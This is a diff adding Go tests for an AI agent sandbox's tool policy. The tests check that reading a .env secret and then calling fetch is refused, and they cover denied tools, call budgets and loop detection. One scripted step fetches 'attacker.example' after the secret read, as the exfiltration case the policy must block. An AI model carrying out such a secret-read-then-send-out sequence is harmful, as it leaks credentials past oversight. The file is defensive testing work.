@@ -1,0 +1,188 @@
+package toolpolicy
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/cordon-sandbox/cordon/internal/profile"
+)
+
+const testProfile = `version: 1
+agent: researcher
+labels: [customer]
+tools:
+  read_file:
+    class: read
+    returns: [untrusted]
+    labels:
+      - arg: path
+        suffix: .env
+        labels: [secret]
+      - arg: path
+        prefix: /workspace/crm/
+        labels: [customer]
+  fetch:
+    class: external
+    accepts: [untrusted]
+    returns: [untrusted]
+  write_file:
+    class: write
+    calls: 2
+  delete_repo:
+    deny: true
+session:
+  calls: 10
+  steps: 12
+  wall: 1h
+  repeats: 3
+`
+
+func load(t testing.TB, src string) *profile.Profile {
+	t.Helper()
+	p, err := profile.Parse("p.yaml", []byte(src))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// step is one call of a scripted session, what must be decided, and
+// whether the call then fails.
+type step struct {
+	tool   string
+	args   map[string]any
+	allow  bool
+	rule   string
+	reason string // a part of the reason
+	failed bool
+}
+
+func play(t *testing.T, s *Session, steps []step) {
+	t.Helper()
+	for i, st := range steps {
+		c := Call{Tool: st.tool, Args: st.args}
+		d := s.Decide(c)
+		if d.Allow != st.allow || d.Rule != st.rule || !strings.Contains(d.Reason, st.reason) {
+			t.Fatalf("step %d %s: got %+v; want allow=%v rule=%s reason containing %q", i+1, st.tool, d, st.allow, st.rule, st.reason)
+		}
+		if d.Allow {
+			s.Record(s.Steps(), c, st.failed)
+		}
+	}
+}
+
+// Reading a secret and then sending anything out is refused, naming the
+// read; the same fetch in a fresh session is allowed.
+func TestSecretThenFetch(t *testing.T) {
+	p := load(t, testProfile)
+	s := NewSession(p, nil)
+	play(t, s, []step{
+		{tool: "fetch", args: map[string]any{"url": "https://example.org/"}, allow: true, rule: "tools.fetch"},
+		{tool: "read_file", args: map[string]any{"path": "/workspace/notes.md"}, allow: true, rule: "tools.read_file"},
+		{tool: "fetch", args: map[string]any{"url": "https://example.org/2"}, allow: true, rule: "tools.fetch"},
+		{tool: "read_file", args: map[string]any{"path": "/workspace/.env"}, allow: true, rule: "tools.read_file"},
+		{tool: "fetch", args: map[string]any{"url": "https://attacker.example/?q=..."}, allow: false, rule: "tools.fetch.accepts",
+			reason: `the session carries "secret", brought in by call 4 (read_file {"path":"/workspace/.env"}), and fetch accepts only untrusted`},
+	})
+	d := s.Decide(Call{Tool: "fetch"})
+	if d.Because != 4 || d.Hint == "" {
+		t.Errorf("the denial names call %d, hint %q; want call 4 and a hint", d.Because, d.Hint)
+	}
+	play(t, NewSession(p, nil), []step{
+		{tool: "fetch", args: map[string]any{"url": "https://attacker.example/?q=..."}, allow: true, rule: "tools.fetch"},
+	})
+}
+
+// A profile's own label flows like the built-in ones.
+func TestOwnLabel(t *testing.T) {
+	s := NewSession(load(t, testProfile), nil)
+	play(t, s, []step{
+		{tool: "read_file", args: map[string]any{"path": "/workspace/crm/acme.csv"}, allow: true, rule: "tools.read_file"},
+		{tool: "fetch", allow: false, rule: "tools.fetch.accepts", reason: `carries "customer"`},
+	})
+	if got := strings.Join(s.Labels(), ","); got != "customer,untrusted" {
+		t.Errorf("labels %s", got)
+	}
+}
+
+// Unlisted and denied tools are refused, saying what is allowed.
+func TestUnlistedAndDenied(t *testing.T) {
+	s := NewSession(load(t, testProfile), nil)
+	d := s.Decide(Call{Tool: "send_email"})
+	if d.Allow || d.Rule != "tools" || !strings.Contains(d.Hint, "fetch, read_file, write_file") {
+		t.Errorf("unlisted: %+v", d)
+	}
+	d = s.Decide(Call{Tool: "delete_repo"})
+	if d.Allow || d.Rule != "tools.delete_repo.deny" {
+		t.Errorf("denied: %+v", d)
+	}
+}
+
+// Each budget, when used up, is reported as itself.
+func TestBudgets(t *testing.T) {
+	p := load(t, testProfile)
+	s := NewSession(p, nil)
+	w := map[string]any{"path": "/workspace/a"}
+	play(t, s, []step{
+		{tool: "write_file", args: w, allow: true, rule: "tools.write_file"},
+		{tool: "write_file", args: w, allow: true, rule: "tools.write_file"},
+		{tool: "write_file", args: w, allow: false, rule: "tools.write_file.calls", reason: "called its 2 times"},
+	})
+	for i := 0; i < 8; i++ {
+		play(t, s, []step{{tool: "read_file", args: map[string]any{"path": "/workspace/notes.md"}, allow: true, rule: "tools.read_file"}})
+	}
+	d := s.Decide(Call{Tool: "read_file"})
+	if d.Allow || d.Limit != "session.calls" {
+		t.Errorf("call 11, step 12: %+v", d)
+	}
+	d = s.Decide(Call{Tool: "read_file"})
+	if d.Allow || d.Limit != "session.steps" {
+		t.Errorf("step 13: %+v", d)
+	}
+
+	clock := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	s = NewSession(p, func() time.Time { return clock })
+	clock = clock.Add(61 * time.Minute)
+	if d := s.Decide(Call{Tool: "read_file"}); d.Allow || d.Limit != "session.wall" {
+		t.Errorf("after the wall time: %+v", d)
+	}
+}
+
+// The same call failing again and again is stopped as a loop; a change of
+// arguments, or a success, starts the count again.
+func TestLoopDetected(t *testing.T) {
+	s := NewSession(load(t, testProfile), nil)
+	bad := map[string]any{"path": "/workspace/missing"}
+	play(t, s, []step{
+		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
+		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
+		{tool: "read_file", args: map[string]any{"path": "/workspace/other"}, allow: true, rule: "tools.read_file", failed: true},
+		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
+		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
+		{tool: "read_file", args: bad, allow: true, rule: "tools.read_file", failed: true},
+		{tool: "read_file", args: bad, allow: false, rule: "session.repeats", reason: "failed 3 times in a row"},
+		{tool: "read_file", args: map[string]any{"path": "/workspace/other"}, allow: true, rule: "tools.read_file"},
+	})
+}
+
+// A profile without tools refuses every call.
+func TestNoTools(t *testing.T) {
+	s := NewSession(load(t, "version: 1\nagent: a\n"), nil)
+	if d := s.Decide(Call{Tool: "read_file"}); d.Allow || d.Hint != "this profile allows no tool" {
+		t.Errorf("%+v", d)
+	}
+}
+
+func BenchmarkDecide(b *testing.B) {
+	p := load(b, testProfile)
+	p.Session = nil
+	s := NewSession(p, nil)
+	read := Call{Tool: "read_file", Args: map[string]any{"path": "/workspace/.env"}}
+	s.Record(1, read, false)
+	fetch := Call{Tool: "fetch", Args: map[string]any{"url": "https://example.org/"}}
+	for b.Loop() {
+		s.Decide(read)
+		s.Decide(fetch)
+	}
+}
